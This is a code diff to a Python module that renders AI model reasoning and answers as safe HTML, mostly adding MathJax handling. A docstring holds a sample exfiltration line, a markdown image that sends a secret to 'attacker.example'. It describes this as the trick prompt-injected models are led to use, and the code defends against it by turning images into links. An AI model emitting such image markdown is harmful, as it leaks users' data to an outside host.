@@ -33,7 +33,7 @@ from .code_look import CODE_PREFIX, CODE_STYLE, code_html
 from .core.cost import note as cost_note
 from .core.tokens import reasoning_tokens
 from .markdown_safety import SAFE_LINK, html_block, html_label, is_inert, md_escape, one_line
-from .math_text import IGNORE, PROCESS, math_plugin
+from .math_text import IGNORE, PROCESS, holds_math, math_plugin, prose_html
 from .math_text import to_markdown as math_markdown
 from .provenance import CellRuns, continue_note, replay_note, run_label
 
@@ -62,9 +62,10 @@ def _image_as_link(renderer, tokens, idx, options, env) -> str:
     """A remote image would load by itself (``![x](https://attacker.example/?q=SECRET)`` is the
     known exfiltration trick for prompt-injected models): it becomes a link to click instead."""
     token = tokens[idx]
-    src = html.escape(token.attrGet("src") or "")
-    alt = html.escape(renderer.renderInlineAsText(token.children or [], options, env)) or src
-    return f'<a href="{src}" rel="nofollow noopener noreferrer">image: {alt}</a>'
+    src = token.attrGet("src") or ""
+    alt = renderer.renderInlineAsText(token.children or [], options, env) or src
+    href = html.escape(src)
+    return f'<a href="{href}" rel="nofollow noopener noreferrer">image: {prose_html(alt)}</a>'
 
 
 @lru_cache(maxsize=8)
@@ -283,26 +284,36 @@ def _run_html(trace: Trace, mode: str, highlight: bool) -> list[str]:
     if trace.reasoning and mode != "strip":
         head = html.escape(summary(trace))
         body = markdown_html(trace.reasoning, breaks=True, highlight=highlight, code_classes=True)
-        if mode == "inline":
+        if mode == "inline":  # (the summary beside the body: no math read there)
+            math = _math_class(body)
+            head_math = f" {IGNORE}" if math else ""
             out.append(
-                f'<div class="{CSS_CLASS}-reasoning" style="{_INLINE_BOX}">'
-                f'<div class="{CSS_CLASS}-summary" style="{_INLINE_HEAD}">{head}</div>{body}</div>'
+                f'<div class="{CSS_CLASS}-reasoning{math}" style="{_INLINE_BOX}">'
+                f'<div class="{CSS_CLASS}-summary{head_math}" style="{_INLINE_HEAD}">{head}</div>'
+                f"{body}</div>"
             )
         else:  # folded, unless there is no answer to read instead
             opened = "" if trace.answer else " open"
+            math = f' class="{PROCESS}"' if holds_math(body) else ""
             out.append(
                 f'<details class="{CSS_CLASS}-reasoning"{opened}>'
                 f'<summary style="{_SUMMARY}">{head}</summary>'
-                f'<div style="{_FOLDED_BODY}">{body}</div></details>'
+                f'<div{math} style="{_FOLDED_BODY}">{body}</div></details>'
             )
     answer = markdown_html(trace.answer, highlight=highlight, code_classes=True)
-    out.append(f'<div class="{CSS_CLASS}-answer">{answer}</div>')
+    out.append(f'<div class="{CSS_CLASS}-answer{_math_class(answer)}">{answer}</div>')
     meta = "<br>".join(html.escape(n) for n in notes(trace))
     out.append(f'<div class="{CSS_CLASS}-meta" style="{_META}">{meta}</div>')
     if trace.error:  # on a line of its own that looks it, as in the live widget
         error = html.escape(f"✖ {trace.error}")
         out.append(f'<div class="{ERROR_CLASS}" style="{ERROR_LOOK}">{error}</div>')
     return out
+
+
+def _math_class(fragment: str) -> str:
+    """The class that lets MathJax read the math of rendered markdown (``math_text``), for the
+    element that holds it, after its own."""
+    return f" {PROCESS}" if holds_math(fragment) else ""
 
 
 def safe_markdown(text: str, *, breaks: bool = False, allow_fences: bool = True) -> str:
@@ -324,8 +335,9 @@ def safe_markdown(text: str, *, breaks: bool = False, allow_fences: bool = True)
 def safe_html(text: str, *, breaks: bool = False) -> str:
     """Model text for a markdown file as its safe HTML rendering (see :func:`safe_markdown`)."""
     fragment = markdown_html(text, breaks=breaks, code_classes=True)
+    math = PROCESS if holds_math(fragment) else IGNORE
     fragment = fragment.replace("$", "&#36;").replace("\\", "&#92;")
-    return html_block(fragment, f"{CSS_CLASS}-md {IGNORE}")
+    return html_block(fragment, f"{CSS_CLASS}-md {math}")
 
 
 def quote(block: str) -> str:
@@ -415,15 +427,15 @@ def cell_bundle(trace: Trace, runs: CellRuns | None = None) -> dict[str, str]:
     return {"text/html": html_view, **outline(trace, runs)}
 
 
-_LINES_KEPT = re.compile(rf'<pre[\s>].*?</pre>|<(span|div) class="{PROCESS}">.*?</\1>', re.S)
-"""Code and math: their line ends mean something (a TeX ``%`` comment ends with its line)."""
+_CODE = re.compile(r"<pre[\s>].*?</pre>", re.S)
+"""Code blocks: their line ends mean something (math's are references: ``math_text``)."""
 
 
 def flat(fragment: str) -> str:
-    """``fragment`` with its line ends outside code and math as spaces, which a browser reads
-    alike: a notebook stores a string as one JSON string per line, ~13 bytes more a line."""
+    """``fragment`` with its line ends outside code as spaces, which a browser reads alike: a
+    notebook stores a string as one JSON string per line, ~13 bytes more a line."""
     out, at = [], 0
-    for m in _LINES_KEPT.finditer(fragment):
+    for m in _CODE.finditer(fragment):
         out += [fragment[at : m.start()].replace("\n", " "), m.group()]
         at = m.end()
     return "".join([*out, fragment[at:].replace("\n", " ")])
